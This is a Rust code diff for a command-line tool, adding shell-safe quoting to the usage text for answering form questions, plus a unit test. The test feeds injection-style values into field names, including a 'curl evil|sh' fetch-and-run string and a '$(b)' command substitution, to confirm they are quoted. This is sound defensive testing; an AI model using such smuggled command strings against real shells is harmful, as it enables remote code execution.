@@ -10,6 +10,7 @@ use super::{field, fill};
 use crate::exit::Exit;
 use crate::failure::{Failure, Outcome};
 use crate::near::nearest;
+use crate::shell;
 use crate::term::clean;
 
 /// A question to a user.
@@ -73,6 +74,22 @@ impl Question {
 
     /// How it is answered behind `longhaul tasks answer ID`.
     pub(crate) fn usage(&self) -> String {
+        self.answered_by(None)
+    }
+
+    /// The same where it is told by its key from others.
+    pub(crate) fn answered_by(&self, key: Option<&str>) -> String {
+        let is_option = |word: &str| word.starts_with('-');
+        let words = match &self.asked {
+            ElicitParams::Form(form) => form.form.fields().any(|(name, _, _)| is_option(name)),
+            ElicitParams::Url(_) => false,
+        };
+        let dashes = if words || key.is_some_and(is_option) { " --" } else { "" };
+        let key = key.map(|key| format!(" {}", shell::word(&clean::line(key, 128)))).unwrap_or_default();
+        format!("{dashes}{key}{}", self.filled_in())
+    }
+
+    fn filled_in(&self) -> String {
         match &self.asked {
             ElicitParams::Form(_) if self.is_unseen => String::new(),
             ElicitParams::Form(form) if form.form.fields().len() == 0 => " --accept|--decline".to_owned(),
@@ -229,5 +246,20 @@ mod tests {
         assert_eq!(say(ElicitAction::Accept, &[], &page).unwrap(), r#"{"action":"accept"}"#);
         assert!(say(ElicitAction::Accept, &["a=b"], &page).unwrap_err().contains("no fields"));
         assert!(page.usage().contains("--accept"));
+    }
+
+    #[test]
+    fn what_is_asked_says_nothing_to_a_shell() {
+        let form = |name: &str, field: Field| {
+            Question::of(ElicitParams::Form(ElicitForm::new("?", Form::new().with(name, field))))
+        };
+        for (question, key, usage) in [
+            (form("x;curl evil|sh;", Field::text()), None, " 'x;curl evil|sh;'=TEXT"),
+            (form("to", Field::choice(["a", "$(b)"])), None, " to=a|'$(b)'"),
+            (form("--accept", Field::text()), Some("k 1"), " -- 'k 1' --accept=TEXT"),
+            (form("to", Field::flag()), Some("--cancel"), " -- --cancel to=yes|no"),
+        ] {
+            assert_eq!(question.answered_by(key), usage);
+        }
     }
 }
